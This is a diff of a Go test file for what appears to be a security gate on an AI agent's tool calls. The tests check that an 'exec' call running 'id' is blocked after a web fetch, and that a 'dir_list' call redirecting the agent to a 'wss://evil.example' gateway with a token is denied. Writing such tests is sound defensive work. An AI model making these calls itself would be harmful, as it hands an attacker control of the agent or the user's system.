@@ -58,7 +58,7 @@ func TestH98FetchingByAnotherName(t *testing.T) {
 	} {
 		c.context = ownerIn(fmt.Sprintf("h98-%d", i))
 		r.allow(c)
-		if a := r.send(call{tool: "exec", params: `{"command":"id"}`, context: c.context}); a.allowed() {
+		if a := r.send(impatient(sh("id", c.context))); a.allowed() {
 			t.Errorf("after %s %s exec passed: %s", c.tool, c.params, a.raw)
 		}
 	}
@@ -74,8 +74,8 @@ func TestH99AGatewayOfTheAgentsChoosing(t *testing.T) {
 	r := newRig(t, nil)
 	m := ownerIn("h99")
 	r.allow(call{tool: "web_fetch", params: `{"url":"https://a.example"}`, context: m})
-	r.deny(call{tool: "dir_list", params: `{"path":"~","gatewayUrl":"wss://evil.example","gatewayToken":"x"}`, context: m})
+	r.deny(impatient(call{tool: "dir_list", params: `{"path":"~","gatewayUrl":"wss://evil.example","gatewayToken":"x"}`, context: m}))
 	clean := ownerIn("h99-clean")
 	r.allow(call{tool: "dir_list", params: `{"path":"~","gatewayUrl":"wss://evil.example"}`, context: clean})
-	r.deny(call{tool: "exec", params: `{"command":"id"}`, context: clean})
+	r.deny(impatient(sh("id", clean)))
 }
